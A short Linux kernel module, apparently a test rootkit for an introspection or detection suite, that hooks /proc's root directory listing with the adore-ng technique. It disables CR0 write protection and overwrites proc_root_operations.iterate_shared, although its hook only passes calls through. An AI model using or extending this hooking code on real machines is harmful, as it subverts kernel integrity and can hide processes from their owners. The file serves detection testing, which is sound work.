/* Test rootkit (f): replaces the iterate_shared of /proc's root directory
 * in proc_root_operations (the adore-ng technique of hiding pids from
 * readdir of /proc): kallsyms_lookup_name found through a kprobe, the
 * read-only table written with CR0.WP cleared. The hook passes every call on. */
#include <linux/module.h>
#include <linux/fs.h>
#include "rk_common.h"

typedef int (*rk_iterate_fn)(struct file *, struct dir_context *);
static rk_iterate_fn real_iterate;

static int rk_proc_iterate(struct file *file, struct dir_context *ctx)
{
    return real_iterate(file, ctx);
}

static inline void rk_write_cr0(unsigned long val)
{
    asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

static int __init rk_procfs_init(void)
{
    rk_lookup_fn lookup = rk_find_lookup();
    struct file_operations *fops;
    unsigned long cr0;

    if (!lookup)
        return -ENOENT;
    fops = (struct file_operations *)lookup("proc_root_operations");
    if (!fops)
        return -ENOENT;
    real_iterate = fops->iterate_shared;
    preempt_disable();
    cr0 = read_cr0();
    rk_write_cr0(cr0 & ~X86_CR0_WP);
    fops->iterate_shared = rk_proc_iterate;
    rk_write_cr0(cr0);
    preempt_enable();
    pr_info("rk_procfs: proc_root_operations.iterate_shared hooked\n");
    return 0;
}
module_init(rk_procfs_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("xenaccess test rootkit: /proc root iterate hook");
